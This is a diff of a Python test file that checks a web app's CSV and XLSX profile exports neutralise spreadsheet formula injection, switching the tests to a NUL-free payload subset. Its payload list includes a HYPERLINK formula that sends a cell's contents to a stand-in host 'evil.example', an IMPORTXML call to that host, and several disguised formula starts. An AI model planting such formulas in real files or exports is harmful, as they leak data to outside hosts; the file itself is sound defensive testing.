@@ -25,6 +25,7 @@ PAYLOADS = (
     '=HYPERLINK("http://evil.example/?"&A1;"click")', "=IMPORTXML(\"http://evil.example\";\"//a\")",
     "\x0b=1+1", "\x00=1+1", "=\u202e1+1", "{=1+1}", "%0A=1+1", "<f>1+1</f>", "&#61;1+1", "_x003D_1+1",
 )  # fmt: skip
+STORED = tuple(payload for payload in PAYLOADS if "\0" not in payload)  # PostgreSQL keeps no NUL
 PHONE = "+393331234567"
 # What a spreadsheet would begin to calculate: nothing but white space and unseen signs before one of these.
 CALCULATES = re.compile(r"[\s\x00-\x1f\u00a0\u200b-\u200f\u202a-\u202e\u2060\ufeff]*[=+\-@＝＋－＠]")
@@ -35,7 +36,7 @@ Grid = list[list[str]]
 @pytest.fixture
 def staff(client: Inspector) -> Inspector:
     """Somebody of staff, and one profile for each payload in name, firm and text."""
-    for payload in PAYLOADS:
+    for payload in STORED:
         profile = Profile(
             kind="italian_firm", name=payload, legal_name=payload, contact_name=payload, phone=PHONE,
             country="IT", state="published", about=payload, city=payload,
@@ -66,13 +67,13 @@ def sheet_xml(content: bytes) -> str:
 @pytest.mark.parametrize(("language", "separator"), [("it", ";"), ("en", ","), ("ur", ",")])
 def test_no_cell_of_the_csv_for_excel_calculates(staff: Inspector, language: str, separator: str) -> None:
     cells = csv_cells(staff.get(f"/exchange/profiles/csv-excel?lang={language}").data, separator)
-    assert (len(cells), calculating(cells)) == (len(PAYLOADS) + 1, [])
+    assert (len(cells), calculating(cells)) == (len(STORED) + 1, [])
 
 
 def test_every_cell_of_the_workbook_is_text(staff: Inspector) -> None:
     content = staff.get("/exchange/profiles/xlsx").data
     xml = sheet_xml(content)
-    assert (len(sheet_cells(content)), "<f" in xml) == (len(PAYLOADS) + 1, False)
+    assert (len(sheet_cells(content)), "<f" in xml) == (len(STORED) + 1, False)
     assert set(re.findall(r'<c [^>]*?t="(\w+)"', xml)) == {"inlineStr"}
     assert len(re.findall("<c ", xml)) == xml.count('t="inlineStr"')
 
@@ -80,7 +81,7 @@ def test_every_cell_of_the_workbook_is_text(staff: Inspector) -> None:
 def test_the_csv_for_machines_says_so_and_is_unaltered(staff: Inspector) -> None:
     cells = csv_cells(staff.get("/exchange/profiles/csv").data, ",")
     names = [row[cells[0].index("name")] for row in cells[1:]]
-    assert names == list(PAYLOADS)
+    assert names == list(STORED)
     staff.get("/exchange")
     assert "Never open it in a spreadsheet" in staff.words
 
@@ -138,4 +139,4 @@ def _as_typed() -> Callable[..., int]:
 def test_the_rows_of_the_export_hold_the_payloads(staff: Inspector) -> None:
     """So that the checks above look at something."""
     found = list(exporting.export_rows())
-    assert [row[2] for row in found[1:]] == list(PAYLOADS)
+    assert [row[2] for row in found[1:]] == list(STORED)
